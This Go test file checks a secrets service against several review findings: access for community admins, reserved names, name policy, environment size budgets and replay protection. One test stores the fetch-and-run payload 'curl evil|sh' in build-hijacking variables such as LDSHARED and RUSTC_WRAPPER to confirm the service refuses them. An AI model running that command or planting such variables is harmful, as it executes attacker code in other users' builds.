package controlplane

import (
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/hashicorp/go-hclog"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/nbsecrets/nbsecrets/protocol"
)

// TestCommunityAdminCannotReadShares performs issue 9's finding 5: an admin
// of a community who is in none of its projects clones a secret shared with
// the community to read its value. He is refused, nothing is written, and
// his workspace gets nothing; he may still list the share's name and
// withdraw it, which is what administering a community is for. A member of
// a project the share reaches still clones it.
func TestCommunityAdminCannotReadShares(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	// carol administers community "other" (project vision) and is in no
	// project; dave, vision's admin, administers it too.
	for i := range f.dir.Communities {
		if f.dir.Communities[i].ID == "other" {
			f.dir.Communities[i].Admins = append(f.dir.Communities[i].Admins, "dave")
		}
	}
	f.setDir()
	dave, carol, erin := f.client("dave"), f.client("carol"), f.client("erin")
	sec, err := dave.Create(ctx, "VISION_TOKEN", []byte("vision-only-value"), CreateOptions{Project: "vision"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dave.Share(ctx, "VISION_TOKEN", "other"); err != nil {
		t.Fatal(err)
	}

	before := f.lastSeqs()
	_, err = carol.Clone(ctx, "VISION_TOKEN", "CAROLS_COPY", nil)
	if !errors.Is(err, ErrForbidden) || !strings.Contains(err.Error(), "reaches none of carol's workspaces") {
		t.Fatalf("community admin's clone: %v, want forbidden", err)
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("the refused clone wrote: %v -> %v", before, after)
	}
	if !strings.Contains(f.logs.String(), "reaches none of carol's workspaces") {
		t.Error("the refused clone was not logged")
	}
	f.wantGone("ws-carol", sec.ID)

	// What administering the community grants: its names, and unshare.
	list, err := carol.List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(list, func(i SecretInfo) bool { return i.ID == sec.ID && i.Via == "other" }) {
		t.Fatalf("carol's list does not show the share's name: %+v", list)
	}

	// A member whose workspace the secret reaches clones it.
	cl, err := erin.Clone(ctx, "VISION_TOKEN", "ERINS_COPY", nil)
	if err != nil {
		t.Fatal(err)
	}
	f.wantPut("ws-erin", cl.ID, 1, "vision-only-value")

	if _, err := carol.Unshare(ctx, "VISION_TOKEN", "other"); err != nil {
		t.Fatalf("community admin unshare: %v", err)
	}
}

// restartWith replaces the fixture's service with one that has the name
// policy names.
func (f *fixture) restartWith(names NamePolicy) {
	f.t.Helper()
	if err := f.svc.Stop(); err != nil {
		f.t.Fatal(err)
	}
	logger := hclog.New(&hclog.LoggerOptions{Level: hclog.Trace, Output: f.logs})
	svc, err := New(Options{Conn: f.nc, SignKey: f.sign, CurveKey: f.curve, Directory: f.dir, Logger: logger, Names: names})
	if err != nil {
		f.t.Fatal(err)
	}
	ctx := ctxT(f.t)
	if err := svc.Start(ctx); err != nil {
		f.t.Fatal(err)
	}
	f.t.Cleanup(func() {
		if err := svc.Stop(); err != nil {
			f.t.Error(err)
		}
	})
	f.svc = svc
}

// TestSharedNamesThatRunCode performs issue 9's finding 3 against the
// service: a project member creates LDSHARED (and the other names the
// review found) in the project, or renames or clones a secret to one of
// them, so that the next C-extension build in another member's kernel runs
// his command. Each is refused, names the class, and writes nothing.
func TestSharedNamesThatRunCode(t *testing.T) {
	f := newFixture(t)
	ctx := ctxT(t)
	bob := f.client("bob")
	if _, err := bob.Create(ctx, "BOB_TOKEN", []byte("t"), CreateOptions{Project: "ml"}); err != nil {
		t.Fatal(err)
	}
	before := f.lastSeqs()
	for _, name := range []string{"LDSHARED", "CXX", "MAKEFLAGS", "PYSPARK_SUBMIT_ARGS", "OPENAI_BASE_URL", "DOCKER_HOST", "RUSTC_WRAPPER"} {
		_, err := bob.Create(ctx, name, []byte("sh -c 'curl evil|sh' #"), CreateOptions{Project: "ml"})
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "reserved") {
			t.Errorf("create %s in ml: %v, want refused as reserved", name, err)
		}
		if _, err := bob.Update(ctx, "BOB_TOKEN", nil, Rename(name)); !errors.Is(err, ErrInvalid) {
			t.Errorf("rename to %s: %v, want refused", name, err)
		}
		if _, err := bob.Clone(ctx, "BOB_TOKEN", name, nil, ToProject("ml")); !errors.Is(err, ErrInvalid) {
			t.Errorf("clone to %s: %v, want refused", name, err)
		}
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("refused names wrote: %v -> %v", before, after)
	}
}

// TestSharedNamePolicy: a platform that does not trust project members to
// name what reaches each other's kernels requires a pattern of shared
// names, or lets only admins name them. Private secrets are not affected.
func TestSharedNamePolicy(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	f.restartWith(NamePolicy{SharedPattern: regexp.MustCompile(`^TEAM_[A-Z0-9_]+$`), AdminsNameShared: true})
	alice, bob := f.client("alice"), f.client("bob")
	before := f.lastSeqs()
	refused := []struct {
		what string
		err  error
		why  string
	}{
		{"member creates a matching name", func() error {
			_, err := bob.Create(ctx, "TEAM_KEY", []byte("v"), CreateOptions{Project: "ml"})
			return err
		}(), "only an admin of project \"ml\" names its secrets"},
		{"admin creates a name outside the pattern", func() error {
			_, err := alice.Create(ctx, "SOME_TOOL_SETTING", []byte("v"), CreateOptions{Project: "ml"})
			return err
		}(), "does not match the pattern"},
		{"member clones into the project", func() error {
			_, err := bob.Clone(ctx, "NOPE", "TEAM_COPY", []byte("v"), ToProject("ml"))
			return err
		}(), ""},
	}
	for _, r := range refused {
		if r.err == nil || r.why != "" && !strings.Contains(r.err.Error(), r.why) {
			t.Errorf("%s: %v, want refused saying %q", r.what, r.err, r.why)
		}
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("refused requests wrote: %v -> %v", before, after)
	}
	sec, err := alice.Create(ctx, "TEAM_KEY", []byte("v"), CreateOptions{Project: "ml"})
	if err != nil {
		t.Fatalf("admin, matching name: %v", err)
	}
	if _, err := alice.Update(ctx, "TEAM_KEY", nil, Rename("RENAMED_KEY")); !errors.Is(err, ErrForbidden) {
		t.Errorf("rename outside the pattern: %v", err)
	}
	if _, err := bob.Create(ctx, "ANY_PRIVATE_NAME", []byte("v"), CreateOptions{}); err != nil {
		t.Errorf("private secrets are not under the policy: %v", err)
	}
	// A private secret shared with a community takes the pattern too.
	if _, err := alice.Create(ctx, "PRIVATE_KEY", []byte("v"), CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := alice.Share(ctx, "PRIVATE_KEY", "research"); !errors.Is(err, ErrForbidden) {
		t.Errorf("share a name outside the pattern: %v", err)
	}
	if _, err := alice.Share(ctx, "TEAM_KEY", "research"); err != nil {
		t.Errorf("share a matching name: %v", err)
	}
	f.wantScope("ws-erin", sec.ID, scopeResearch)
}

// TestWorkspaceBudget performs issue 9's finding 4 against the service: a
// project member pushes 64 KiB project secrets until the environment of
// every kernel in the project would pass ARG_MAX. The one that would take
// the project's workspaces over the budget is refused, naming them; so are
// an update that grows a value, a clone and a share that would.
func TestWorkspaceBudget(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	bob, alice, dave := f.client("bob"), f.client("alice"), f.client("dave")
	big := []byte(strings.Repeat("v", protocol.MaxValueSize))
	fit := protocol.MaxWorkspaceEnvBytes / protocol.EnvSize("BIG_0", len(big))
	for i := range fit {
		if _, err := bob.Create(ctx, fmt.Sprintf("BIG_%d", i), big, CreateOptions{Project: "ml"}); err != nil {
			t.Fatalf("secret %d of %d that fit: %v", i+1, fit, err)
		}
	}
	small, err := bob.Create(ctx, "SMALL", []byte("s"), CreateOptions{Project: "ml"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dave.Create(ctx, "DAVE_BIG", big, CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	before := f.lastSeqs()
	for what, err := range map[string]error{
		"create": func() error { _, err := bob.Create(ctx, "ONE_TOO_MANY", big, CreateOptions{Project: "ml"}); return err }(),
		"update": func() error { _, err := bob.Update(ctx, "SMALL", big); return err }(),
		"clone":  func() error { _, err := alice.Clone(ctx, "BIG_0", "BIG_COPY", nil, ToProject("ml")); return err }(),
		"private clone": func() error {
			_, err := alice.Clone(ctx, "BIG_0", "BIG_COPY", nil)
			return err
		}(),
	} {
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "over the budget") || !strings.Contains(err.Error(), "ws-alice") {
			t.Errorf("%s: %v, want refused naming ws-alice", what, err)
		}
	}
	// Sharing dave's big secret with research would take ml's workspaces
	// over: refused, naming them and not vision's.
	_, err = dave.Share(ctx, "DAVE_BIG", "research")
	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "ws-bob") || strings.Contains(err.Error(), "ws-erin") {
		t.Errorf("share: %v, want refused naming ws-bob and not ws-erin", err)
	}
	if after := f.lastSeqs(); after != before {
		t.Fatalf("refused requests wrote: %v -> %v", before, after)
	}
	// Shrinking a value, and an update that stays within the budget, work.
	if _, err := bob.Update(ctx, "BIG_0", []byte("small now")); err != nil {
		t.Fatal(err)
	}
	if _, err := bob.Update(ctx, "SMALL", []byte("still small")); err != nil {
		t.Fatal(err)
	}
	f.wantPut("ws-alice", small.ID, 2, "still small")
}

// startInstance starts another instance of the service on its own
// connection to the fixture's server, as a second replica would run.
func (f *fixture) startInstance() *Service {
	f.t.Helper()
	return f.startService(f.connect())
}

// TestReplayAfterRestartAndOnAnotherInstance performs issue 9's finding 2:
// a captured update, replayed after the service restarted, put a
// rotated-away value back; a captured delete, replayed against a second
// instance, deleted a secret re-created since. Both replays are now
// refused, because the nonces are kept in JetStream, and change nothing.
func TestReplayAfterRestartAndOnAnotherInstance(t *testing.T) {
	f := newFixture(t)
	ctx := ctxT(t)
	alice := f.client("alice")
	if _, err := alice.Create(ctx, "DB_PASSWORD", []byte("old-value"), CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	captured := f.rawRequest(t, alice, &requestBody{Op: opUpdate, Name: "DB_PASSWORD"}, []byte("old-value-2"))
	if e := f.send(t, opUpdate, captured); e != nil {
		t.Fatalf("the original update: %+v", e)
	}
	rotated, err := alice.Update(ctx, "DB_PASSWORD", []byte("rotated-value"))
	if err != nil {
		t.Fatal(err)
	}

	// The service restarts: a new process, an empty memory.
	if err := f.svc.Stop(); err != nil {
		t.Fatal(err)
	}
	f.svc = f.startService(f.nc)
	before := f.lastSeqs()
	if e := f.send(t, opUpdate, captured); e == nil || e.Code != "unauthenticated" || !strings.Contains(e.Message, "replayed") {
		t.Fatalf("update replayed after a restart: %+v, want refused as a replay", e)
	}
	if after := f.lastSeqs(); after[0] != before[0] || after[1] != before[1] {
		t.Fatalf("the replay wrote: %v -> %v", before, after)
	}
	f.wantPut("ws-alice", rotated.ID, rotated.Version, "rotated-value")

	// A delete, captured; the secret is re-created; the delete is replayed
	// against a second instance while the first (which saw it) is gone.
	del := f.rawRequest(t, alice, &requestBody{Op: opDelete, Name: "DB_PASSWORD"}, nil)
	if e := f.send(t, opDelete, del); e != nil {
		t.Fatalf("the original delete: %+v", e)
	}
	again, err := alice.Create(ctx, "DB_PASSWORD", []byte("re-created"), CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	second := f.startInstance()
	if err := f.svc.Stop(); err != nil {
		t.Fatal(err)
	}
	f.svc = second
	if e := f.send(t, opDelete, del); e == nil || e.Code != "unauthenticated" || !strings.Contains(e.Message, "replayed") {
		t.Fatalf("delete replayed against a second instance: %+v, want refused as a replay", e)
	}
	f.wantPut("ws-alice", again.ID, 1, "re-created")
	if !strings.Contains(f.logs.String(), "replayed request") {
		t.Error("the refused replay was not logged")
	}
}

// TestNonceSharedBetweenConcurrentInstances: the same request handed to
// two instances at once (both subscribed, the request sent to each
// directly) is carried out once.
func TestNonceSharedBetweenConcurrentInstances(t *testing.T) {
	f := newFixture(t)
	ctx := ctxT(t)
	alice := f.client("alice")
	second := f.startInstance()
	data := f.rawRequest(t, alice, &requestBody{Op: opCreate, Name: "ONCE_ONLY"}, []byte("v"))
	var oks, replays atomic.Int32
	var wg sync.WaitGroup
	for _, svc := range []*Service{f.svc, second} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, value, err := svc.authenticate(opCreate, data)
			if err == nil {
				err = svc.useNonce(ctx, req)
			}
			clear(value)
			switch {
			case err == nil:
				oks.Add(1)
			case errors.Is(err, ErrUnauthenticated) && strings.Contains(err.Error(), "replayed"):
				replays.Add(1)
			default:
				t.Error(err)
			}
		}()
	}
	wg.Wait()
	if oks.Load() != 1 || replays.Load() != 1 {
		t.Fatalf("%d accepted, %d refused as replays; want 1 and 1", oks.Load(), replays.Load())
	}
}

func TestNonceBucketTTL(t *testing.T) {
	f := newFixture(t)
	ctx := ctxT(t)
	kv := must(must(jetstream.New(f.nc)).KeyValue(ctx, NonceBucket))
	st := must(kv.Status(ctx))
	if st.TTL() != 2*MaxClockSkew {
		t.Fatalf("nonce bucket TTL %v, want twice the accepted clock skew (%v)", st.TTL(), 2*MaxClockSkew)
	}
}

// TestReplacingAShareIsVisible: issue 9's finding 3 also asks that a
// secret replacing another of the same name is never silent. A project
// secret that hides, in the project's workspaces, a community share the
// project relied on says so in its reply, and so does a private secret
// hiding a project's; the list marks the hidden ones.
func TestReplacingAShareIsVisible(t *testing.T) {
	f := newWorld(t)
	ctx := ctxT(t)
	dave, bob, alice, erin := f.client("dave"), f.client("bob"), f.client("alice"), f.client("erin")
	shared, err := dave.Create(ctx, "TEAM_KEY", []byte("the real one"), CreateOptions{Project: "vision"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dave.Share(ctx, "TEAM_KEY", "research"); err != nil {
		t.Fatal(err)
	}
	mine, err := bob.Create(ctx, "TEAM_KEY", []byte("bob's"), CreateOptions{Project: "ml"})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(mine.Hides, []protocol.Scope{scopeResearch}) {
		t.Fatalf("bob's project secret hides %v, want the research share", mine.Hides)
	}
	if !strings.Contains(f.logs.String(), "secret hides same-named secrets") {
		t.Error("not logged")
	}
	list, err := bob.List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(list, func(i SecretInfo) bool {
		return i.ID == shared.ID && i.ShadowedBy != nil && *i.ShadowedBy == scopeML
	}) {
		t.Fatalf("bob's list does not mark the share as hidden by project ml: %+v", list)
	}
	priv, err := alice.Create(ctx, "TEAM_KEY", []byte("alice's"), CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(priv.Hides, []protocol.Scope{scopeResearch, scopeML}) && !slices.Equal(priv.Hides, []protocol.Scope{scopeML, scopeResearch}) {
		t.Fatalf("alice's private secret hides %v, want project ml and the research share", priv.Hides)
	}
	other, err := erin.Create(ctx, "ERINS_OWN", []byte("x"), CreateOptions{})
	if err != nil || len(other.Hides) != 0 {
		t.Fatalf("a secret that hides nothing: %+v, %v", other, err)
	}
	// In vision's workspaces the share is vision's own project secret:
	// a private secret of erin's hides it as project vision, not as the
	// research share.
	ep, err := erin.Create(ctx, "TEAM_KEY", []byte("erin's"), CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if want := []protocol.Scope{{Kind: protocol.ScopeProject, ID: "vision"}}; !slices.Equal(ep.Hides, want) {
		t.Fatalf("erin's private secret hides %v, want %v", ep.Hides, want)
	}
}
